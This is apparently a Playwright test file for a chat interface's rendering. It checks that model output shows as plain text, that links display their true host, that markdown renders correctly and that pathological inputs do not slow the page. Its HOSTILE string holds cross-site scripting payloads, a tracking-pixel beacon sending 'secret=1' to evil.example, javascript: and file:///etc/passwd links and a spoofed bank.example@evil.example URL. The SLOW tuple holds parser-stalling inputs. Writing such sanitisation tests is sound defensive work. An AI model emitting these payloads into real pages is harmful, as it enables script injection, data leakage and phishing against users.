"""What a model writes is shown as words: none of it becomes markup, a request or a script."""

from __future__ import annotations

import time

import pytest
from garden import Garden, garden
from page import say
from playwright.sync_api import Locator, expect
from watching import Visit, Watch

from penjing.core.messages import Message

HOSTILE = """\
<script>window.ran = 1</script><img src=x onerror="window.ran = 1">
<iframe src="https://evil.example/"></iframe><style>body{display:none}</style>
![beacon](https://evil.example/pixel.png?secret=1) and [a link](javascript:window.ran=1)
[data](data:text/html,hi) [file](file:///etc/passwd) [upper](JaVaScRiPt:alert(1)) <https://evil.example/auto>
[host](https://bank.example@evil.example/x) [mail](mailto:anna@example.org) https://plain.example/path.
"""


def shown(place: Garden, visit: Visit) -> Locator:
    return say(visit(place), "go on")


def test_nothing_a_model_writes_becomes_markup_or_a_request(visit: Visit, watch: Watch) -> None:
    with garden(answers=[HOSTILE], piece=64) as place:
        answer = shown(place, visit)
        page = answer.page
        assert answer.locator("script, img, iframe, style, object, embed").count() == 0
        assert page.evaluate("window.ran") is None
        expect(answer).to_contain_text("<script>window.ran = 1</script>")
        assert all(url.startswith(place.url) for url in watch.requests)


def test_links_show_their_host_and_go_only_where_links_may(visit: Visit) -> None:
    with garden(answers=[HOSTILE], piece=64) as place:
        links = shown(place, visit).locator("a")
        assert links.evaluate_all("all => all.map(one => one.href)") == [
            "https://evil.example/",
            "https://evil.example/pixel.png?secret=1",
            "https://evil.example/auto",
            "https://bank.example@evil.example/x",
            "mailto:anna@example.org",
            "https://plain.example/path",
        ]
        hosts = links.locator(".host").all_inner_texts()
        assert [one.strip() for one in hosts] == [
            *["evil.example"] * 4, "anna@example.org", "plain.example"
        ]  # fmt: skip
        for link in links.all():
            assert link.get_attribute("rel") == "noopener noreferrer nofollow"


def test_markdown_is_set_as_it_is_meant(visit: Visit) -> None:
    text = """\
# Title

Some **bold**, *slanted* and `code`, snake_case_name, 2 * 3 * 4 and a [3] that cites nothing.

1. one
2. two
   - inner

> quoted
> twice

| a | b |
|---|---|
| 1 | `2` |

```python
print("<b>")
```

last ~~gone~~ line
"""
    with garden(answers=[text], piece=64) as place:
        prose = shown(place, visit).locator(".prose")
        expect(prose.locator("h2")).to_have_text("Title")
        expect(prose.locator("strong")).to_have_text("bold")
        expect(prose.locator("em")).to_have_text("slanted")
        expect(prose.locator("p code")).to_have_text("code")
        expect(prose.locator("p").first).to_contain_text(
            "snake_case_name, 2 * 3 * 4 and a that cites"
        )
        expect(prose.locator("> ol > li")).to_have_count(2)
        expect(prose.locator("ol ul li")).to_have_text("inner")
        expect(prose.locator("blockquote")).to_have_text("quotedtwice")
        assert prose.locator("td").all_inner_texts() == ["1", "2"]
        expect(prose.locator("pre")).to_have_text('print("<b>")')
        expect(prose.locator("figcaption")).to_contain_text("python")
        expect(prose.locator("del")).to_have_text("gone")


SLOW = (
    "*a " * 3000,
    "[" * 9000,
    "`" * 9001 + "a",
    "> " * 3000,
    "**_" * 3000,
    "|a" * 3000 + "\n|-" * 1000,
    "|a|b|\n|-|-|\n" + "|\n" * 4000,
    "- " * 3000,
    "http" * 2500,
    "![](" * 2500,
    "<" * 9000,
)
"""Each would take a careless parser for ever, or make a page of millions of elements."""


@pytest.mark.alone
def test_no_text_makes_the_page_slow(alone: Garden, visit: Visit) -> None:
    history = alone.store.history
    page = visit(alone)
    for text in SLOW:
        session = history.begin("slow")
        history.append_turn(session.id, Message.of("user", f"about {text[:9]}"))
        history.append_turn(session.id, Message.of("assistant", text))
        started = time.monotonic()
        page.goto(f"{alone.url}#/s/{session.id}")
        expect(page.locator(".turn.user")).to_have_text(f"about {text[:9]}")
        expect(page.locator(".turn.assistant .prose > *").first).to_be_attached()
        page.evaluate("document.title")
        assert time.monotonic() - started < 3, text[:12]
